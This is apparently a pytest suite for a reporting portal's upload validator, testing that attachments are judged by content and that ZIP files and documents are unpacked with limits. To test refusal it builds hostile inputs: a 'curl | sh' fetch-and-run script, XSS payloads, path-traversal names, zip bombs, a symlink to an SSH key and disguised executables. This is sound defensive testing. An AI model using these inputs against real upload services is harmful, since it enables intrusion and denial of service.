"""Attachments from the public reporting portal (no database): judged by content, never by name or
claimed type; ZIP files and documents unpacked in full with bounded work; stored once by SHA-256."""

import gzip
import hashlib
import io
import os
import stat
import struct
import zipfile
import zlib

import filetype
import pytest
from django.core.exceptions import SuspiciousFileOperation
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image
from reportlab.pdfgen import canvas

from reporting.attachments import (
    AttachmentRefused,
    CheckedFile,
    check_upload,
    check_uploads,
    display_name,
    open_stored,
    store,
)

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
ELF_HEADER = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + bytes(48)
PE_HEADER = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(44) + b"\x80\x00\x00\x00" + bytes(64)
PE_HEADER += b"PE\x00\x00" + bytes(200)


def upload(name: str, content: bytes, content_type: str = "application/octet-stream") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)


def refusal(file) -> str:
    with pytest.raises(AttachmentRefused) as refused:
        check_upload(file)
    return refused.value.message


def picture(image_format: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(out, format=image_format)
    return out.getvalue()


def pdf() -> bytes:
    out = io.BytesIO()
    page = canvas.Canvas(out)
    page.drawString(72, 720, "Statement of a witness")
    page.save()
    return out.getvalue()


def zipped(members: dict[str, bytes], *, compression=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def docx(extra: dict[str, bytes] | None = None, body: str = "What I saw") -> bytes:
    return zipped(
        {
            "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
            b'package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/'
            b'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
            "_rels/.rels": b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            b'package/2006/relationships"/>',
            "word/document.xml": f'<?xml version="1.0"?><w:document><w:body><w:p><w:r><w:t>{body}</w:t></w:r>'
            "</w:p></w:body></w:document>".encode(),
            **(extra or {}),
        }
    )


def xlsx() -> bytes:
    return zipped(
        {
            "[Content_Types].xml": b'<?xml version="1.0"?><Types/>',
            "_rels/.rels": b'<?xml version="1.0"?><Relationships/>',
            "xl/workbook.xml": b'<?xml version="1.0"?><workbook/>',
        }
    )


# Accepted, by content


def test_png_photo_is_accepted_with_its_sha256_size_and_kind():
    content = picture("PNG")
    checked = check_upload(upload("photo.png", content, "image/png"))
    assert checked == CheckedFile(
        name="photo.png",
        size=len(content),
        sha256=hashlib.sha256(content).hexdigest(),
        content_type="image/png",
        kind="image",
    )


def test_jpeg_is_recognised_by_content_whatever_its_name_and_claimed_type():
    content = picture("JPEG")
    checked = check_upload(upload("IMG_0001", content, "application/x-msdownload"))
    assert (checked.content_type, checked.kind, checked.sha256) == (
        "image/jpeg",
        "image",
        hashlib.sha256(content).hexdigest(),
    )


def test_pdf_is_accepted():
    content = pdf()
    checked = check_upload(upload("statement.pdf", content, "application/pdf"))
    assert (checked.content_type, checked.kind, checked.size) == ("application/pdf", "pdf", len(content))


def test_minimal_word_document_is_accepted_as_a_document():
    content = docx()
    assert filetype.guess_mime(content) == DOCX  # the fixture really is what filetype calls a .docx
    checked = check_upload(upload("letter.docx", content))
    assert (checked.content_type, checked.kind) == (DOCX, "document")
    assert checked.sha256 == hashlib.sha256(content).hexdigest()


def test_word_document_with_a_chart_workbook_embedded_in_it_is_accepted():
    content = docx({"word/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx()})
    assert check_upload(upload("letter.docx", content)).kind == "document"


def test_small_document_that_compresses_very_well_is_accepted():
    content = docx(body="The officer said nothing. " * 36_000)  # ~900 KB of text in a few KB
    assert len(content) * 100 < 900_000
    assert check_upload(upload("letter.docx", content)).kind == "document"


def test_zip_of_photos_text_and_a_word_document_is_accepted_as_an_archive():
    content = zipped(
        {"photos/": b"", "photos/car.jpg": picture("JPEG"), "notes.txt": "Café at 10pm".encode(), "l.docx": docx()}
    )
    checked = check_upload(upload("evidence.zip", content, "application/zip"))
    assert (checked.content_type, checked.kind) == ("application/zip", "archive")


def ftyp(brand: bytes, *compatible: bytes) -> bytes:
    box = b"ftyp" + brand + b"\x00\x00\x00\x00" + b"".join(compatible)
    return struct.pack(">L", len(box) + 4) + box + bytes(64)


@pytest.mark.parametrize(
    ("content", "content_type", "kind"),
    [
        (picture("GIF"), "image/gif", "image"),
        (picture("WEBP"), "image/webp", "image"),
        (ftyp(b"heic", b"mif1", b"heic"), "image/heic", "image"),
        (b"ID3\x03\x00\x00\x00\x00\x00\x00" + bytes(64), "audio/mpeg", "audio"),
        (ftyp(b"M4A ", b"M4A ", b"isom"), "audio/mp4", "audio"),
        (b"RIFF\x24\x00\x00\x00WAVEfmt " + bytes(64), "audio/x-wav", "audio"),
        (ftyp(b"isom", b"isom", b"mp41"), "video/mp4", "video"),
        (ftyp(b"qt  ", b"qt  "), "video/quicktime", "video"),
    ],
)
def test_pictures_sound_and_video_are_recognised_by_their_first_bytes(content, content_type, kind):
    checked = check_upload(upload("recording", content))
    assert (checked.content_type, checked.kind) == (content_type, kind)


def test_plain_utf8_text_is_accepted_as_text():
    content = "The car was a blue Ford, registration starting AB12. Café – £20.\n".encode()
    checked = check_upload(upload("what-i-saw.txt", content, "text/plain"))
    assert (checked.content_type, checked.kind) == ("text/plain", "text")


def test_long_text_with_a_character_split_at_the_64kb_mark_is_still_text():
    content = b"a" * (64 * 1024 - 1) + "é".encode() + b" and more"
    assert check_upload(upload("long.txt", content)).kind == "text"


def test_upload_is_rewound_after_checking_whether_accepted_or_refused():
    accepted, refused = upload("photo.png", picture("PNG")), upload("setup.jpg", PE_HEADER)
    check_upload(accepted)
    with pytest.raises(AttachmentRefused):
        check_upload(refused)
    assert accepted.tell() == 0 and refused.tell() == 0


# Refused


def test_file_over_the_size_limit_is_refused_naming_the_limit():
    big = upload("evidence.pdf", b"%PDF-1.4\n" + bytes(10 * 1024 * 1024))
    assert refusal(big) == "evidence.pdf is larger than 10 MB. Send a smaller file, or split it."


def test_file_that_claims_to_be_small_is_still_refused_when_its_content_is_too_large(settings):
    settings.PORTAL_MAX_FILE_BYTES = 1024
    lying = upload("notes.txt", b"x" * 2048)
    lying.size = 10
    assert refusal(lying) == "notes.txt is larger than 1 KB. Send a smaller file, or split it."


def test_empty_file_is_refused():
    assert "empty.txt is empty" in refusal(upload("empty.txt", b""))


def test_windows_program_renamed_as_a_photo_is_refused():
    message = refusal(upload("holiday.jpg", PE_HEADER, "image/jpeg"))
    assert message == (
        "holiday.jpg is not a picture, PDF, document or sound/video file we can accept (it looks like a program)."
    )


def test_linux_program_renamed_as_a_pdf_is_refused():
    assert "(it looks like a program)" in refusal(upload("report.pdf", ELF_HEADER, "application/pdf"))


def test_mac_program_is_refused():
    assert "(it looks like a program)" in refusal(upload("photo.heic", b"\xcf\xfa\xed\xfe" + bytes(60)))


def test_script_disguised_as_text_is_refused():
    assert "(it looks like a program)" in refusal(upload("notes.txt", b"#!/bin/sh\ncurl http://x | sh\n"))


@pytest.mark.parametrize(
    "content",
    [
        b"  \n<!DOCTYPE html><html><script>alert(1)</script></html>",
        b"<html><body>hello</body></html>",
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "\ufeff<svg><script>alert(1)</script></svg>".encode(),
    ],
)
def test_web_page_or_drawing_renamed_as_text_is_refused(content):
    assert "(it looks like a web page, which could contain a script)" in refusal(upload("notes.txt", content))


def test_binary_of_no_known_kind_is_refused():
    assert refusal(upload("data.bin", b"\x00\x01\x02\xff" * 100)) == (
        "data.bin is not a picture, PDF, document or sound/video file we can accept."
    )


def test_other_compressed_formats_are_refused_asking_for_a_zip():
    assert "send a ZIP file instead" in refusal(upload("photos.zip", gzip.compress(b"hello")))


# ZIP files: bombs, nesting, unsafe names


@pytest.fixture(scope="module")
def zip_bomb() -> bytes:
    """200 MB of zeros in one member; about 200 KB packed."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("zeros.bin", "w") as member:
        megabyte = bytes(1024 * 1024)
        for _ in range(200):
            member.write(megabyte)
    return out.getvalue()


def test_zip_bomb_is_refused_by_its_compression_ratio(zip_bomb):
    assert len(zip_bomb) < 1024 * 1024
    assert refusal(upload("photos.zip", zip_bomb)) == (
        "photos.zip unpacks to more than 100 times its own size, so we cannot accept it."
    )


def test_zip_bomb_is_refused_by_the_unpacked_size_limit(settings, zip_bomb):
    settings.PORTAL_MAX_COMPRESSION_RATIO = 1_000_000
    assert refusal(upload("photos.zip", zip_bomb)) == "photos.zip unpacks to more than 50 MB, so we cannot accept it."


def test_zip_bomb_whose_index_understates_its_size_is_still_refused(settings, zip_bomb):
    settings.PORTAL_MAX_COMPRESSION_RATIO = 1_000_000
    lying = bytearray(zip_bomb)
    central = lying.rindex(b"PK\x01\x02")
    struct.pack_into("<LL", lying, 18, 1000, 1000)  # local header: packed size, size
    struct.pack_into("<LL", lying, central + 20, 1000, 1000)  # central directory: the same
    assert zipfile.ZipFile(io.BytesIO(lying)).getinfo("zeros.bin").file_size == 1000  # the lie is believed
    assert refusal(upload("photos.zip", bytes(lying))) == (
        "photos.zip unpacks to more than 50 MB, so we cannot accept it."
    )


def test_many_small_members_are_counted_together(settings):
    settings.PORTAL_MAX_UNPACKED_BYTES = 1024 * 1024
    content = zipped({f"page{n}.txt": b"x" * 300_000 for n in range(4)})
    assert "unpacks to more than 1 MB" in refusal(upload("pages.zip", content))


def test_zip_with_more_members_than_allowed_is_refused(settings):
    settings.PORTAL_MAX_ARCHIVE_MEMBERS = 3
    content = zipped({f"note{n}.txt": b"hello" for n in range(4)})
    assert refusal(upload("notes.zip", content)).startswith("notes.zip holds more than 3 files")


@pytest.mark.parametrize("inner", [zipped({"a.txt": b"hello"}), gzip.compress(b"hello")])
def test_archive_inside_a_zip_is_refused(inner):
    content = zipped({"inner.zip": inner, "a.txt": b"hello"})
    assert refusal(upload("photos.zip", content)) == (
        "photos.zip contains inner.zip, which is itself a compressed file. Unpack it and send what is inside instead."
    )


def test_zip_inside_a_word_document_is_refused():
    content = docx({"word/embeddings/package.zip": zipped({"a.txt": b"hello"})})
    assert "which is itself a compressed file" in refusal(upload("letter.docx", content))


@pytest.mark.parametrize("member", ["../../etc/cron.d/evil", "photos/../../evil.txt", "/etc/passwd", "C:/evil.txt"])
def test_zip_member_whose_name_leads_outside_the_folder_is_refused(member):
    content = zipped({"a.txt": b"hello", member: b"hello"})
    assert "whose name points outside the folder" in refusal(upload("photos.zip", content))


def test_program_inside_a_zip_is_refused_even_with_a_photo_name():
    content = zipped({"holiday.jpg": PE_HEADER})
    assert refusal(upload("photos.zip", content)) == (
        "photos.zip contains holiday.jpg, which looks like a program, so we cannot accept it."
    )


def test_web_page_inside_a_zip_is_refused():
    content = zipped({"a.txt": b"hello", "page.txt": b"<html><script>alert(1)</script></html>"})
    assert "contains page.txt, which is not a picture" in refusal(upload("photos.zip", content))


def test_password_protected_zip_is_refused():
    content = bytearray(zipped({"a.txt": b"hello"}))
    content[6] |= 0x1  # the "encrypted" flag in the local header
    content[content.rindex(b"PK\x01\x02") + 8] |= 0x1  # and in the central directory
    assert refusal(upload("photos.zip", bytes(content))) == (
        "photos.zip is password-protected. Send it without a password."
    )


def test_damaged_zip_is_refused_clearly():
    content = zipped({"a.txt": b"hello " * 1000})
    assert refusal(upload("photos.zip", content[: len(content) // 2])) == (
        "photos.zip is damaged or incomplete, so we could not check it. Save or download it again, and send the "
        "new copy."
    )


def test_zip_whose_member_does_not_match_its_recorded_checksum_is_refused_as_damaged():
    content = bytearray(zipped({"a.txt": b"hello world"}, compression=zipfile.ZIP_STORED))
    data_start = content.index(b"hello world")
    content[data_start] = ord("j")
    assert zlib.crc32(b"jello world") != zlib.crc32(b"hello world")
    assert "is damaged or incomplete" in refusal(upload("photos.zip", bytes(content)))


def test_zip_member_that_is_a_link_is_refused():
    link = zipfile.ZipInfo("evidence/photo.jpg")
    link.create_system = 3  # Unix
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(link, "/home/investigator/.ssh/id_rsa")
    assert refusal(upload("photos.zip", out.getvalue())) == (
        "photos.zip contains a link to another file, so we cannot accept it."
    )


def test_zip_whose_local_name_differs_from_its_index_is_refused_as_damaged():
    content = bytearray(zipped({"a.txt": b"hello"}))
    content[30:35] = b"../.."[:5]  # the name in the local header only
    assert "is damaged or incomplete" in refusal(upload("photos.zip", bytes(content)))


def test_zip_using_compression_we_cannot_check_is_refused():
    content = zipped({"a.txt": b"hello"}, compression=zipfile.ZIP_BZIP2)
    assert "uses a kind of compression we cannot check" in refusal(upload("photos.zip", content))


def test_zip_with_nothing_but_folders_is_refused():
    assert refusal(upload("photos.zip", zipped({"photos/": b""}))) == "photos.zip has no files in it."


def test_word_document_with_macros_is_refused():
    content = docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(100)})
    assert refusal(upload("letter.docx", content)).startswith("letter.docx contains macros")


# Several files


def test_more_files_than_allowed_are_refused_together():
    uploads = [upload(f"note{n}.txt", b"hello") for n in range(6)]
    with pytest.raises(AttachmentRefused) as refused:
        check_uploads(uploads)
    assert "You can send up to 5 files" in refused.value.message


def test_files_over_the_total_size_limit_are_refused_together(settings):
    settings.PORTAL_MAX_TOTAL_BYTES = 2048
    uploads = [upload(f"note{n}.txt", b"x" * 1000) for n in range(3)]
    with pytest.raises(AttachmentRefused) as refused:
        check_uploads(uploads)
    assert refused.value.message == "Together your files are larger than 2 KB. Send fewer or smaller files."


def test_files_that_claim_to_be_small_are_refused_together_on_what_was_really_read(settings):
    settings.PORTAL_MAX_TOTAL_BYTES = 2048
    uploads = [upload(f"note{n}.txt", b"x" * 1000) for n in range(3)]
    for file in uploads:
        file.size = 10
    with pytest.raises(AttachmentRefused) as refused:
        check_uploads(uploads)
    assert refused.value.message.startswith("Together your files are larger than 2 KB")


class Unreadable(SimpleUploadedFile):
    def chunks(self, chunk_size=None):
        raise AssertionError("read before the total was checked")


def test_total_declared_size_is_refused_before_any_file_is_read(settings):
    settings.PORTAL_MAX_TOTAL_BYTES = 2048
    uploads = [Unreadable(f"note{n}.txt", b"x" * 1000) for n in range(3)]
    with pytest.raises(AttachmentRefused) as refused:
        check_uploads(uploads)
    assert refused.value.message.startswith("Together your files are larger than 2 KB")


def test_first_refused_file_among_several_is_named():
    uploads = [upload("photo.png", picture("PNG")), upload("setup.jpg", PE_HEADER), upload("x.txt", b"")]
    with pytest.raises(AttachmentRefused) as refused:
        check_uploads(uploads)
    assert refused.value.message.startswith("setup.jpg is not a picture")


def test_files_within_the_limits_are_each_checked():
    checked = check_uploads([upload("photo.png", picture("PNG")), upload("statement.pdf", pdf())])
    assert [(file.name, file.kind) for file in checked] == [("photo.png", "image"), ("statement.pdf", "pdf")]


# Names


def test_display_name_keeps_only_the_last_path_part_without_hidden_characters():
    assert display_name("C:\\Users\\me\\Desktop\\invoice\u202egpj.exe") == "invoicegpj.exe"
    assert display_name("../../etc/pass\x00wd\n") == "passwd"
    assert display_name("..") == "attachment"
    long = display_name("a" * 300 + ".jpeg")
    assert len(long) == 120 and long.endswith("a.jpeg")


# Storing


def test_store_writes_the_file_once_under_its_sha256_and_reads_it_back(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    content = picture("PNG")
    first = upload("photo.png", content)
    checked = check_upload(first)

    path = store(first, checked)

    sha = hashlib.sha256(content).hexdigest()
    assert path == f"reporting/{sha[:2]}/{sha}"
    written = tmp_path / path
    assert written.read_bytes() == content
    assert first.tell() == 0
    written_at = written.stat().st_mtime_ns
    os.utime(written, ns=(1, 1))  # any rewrite would move this on

    again = upload("same-photo-again.png", content)
    assert store(again, check_upload(again)) == path
    assert written.stat().st_mtime_ns == 1 != written_at
    assert sorted(p.name for p in written.parent.iterdir()) == [sha]  # no temporary files left behind
    with open_stored(path) as stored:
        assert stored.read() == content


def test_store_refuses_content_that_does_not_match_what_was_checked(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    checked = check_upload(upload("photo.png", picture("PNG")))
    swapped = upload("photo.png", picture("GIF"))
    with pytest.raises(AttachmentRefused):
        store(swapped, checked)
    assert not [p for p in tmp_path.rglob("*") if p.is_file()]


@pytest.mark.parametrize(
    "path",
    [
        "../x",
        "reporting/../../etc/passwd",
        "/etc/passwd",
        "reporting/ab/" + "cd" * 32,  # folder does not match the hash
        "reporting/ab/ab" + "c" * 62 + "/../../../x",
        "",
    ],
)
def test_open_stored_refuses_anything_but_a_stored_attachment(settings, tmp_path, path):
    settings.MEDIA_ROOT = tmp_path
    with pytest.raises(SuspiciousFileOperation):
        open_stored(path)
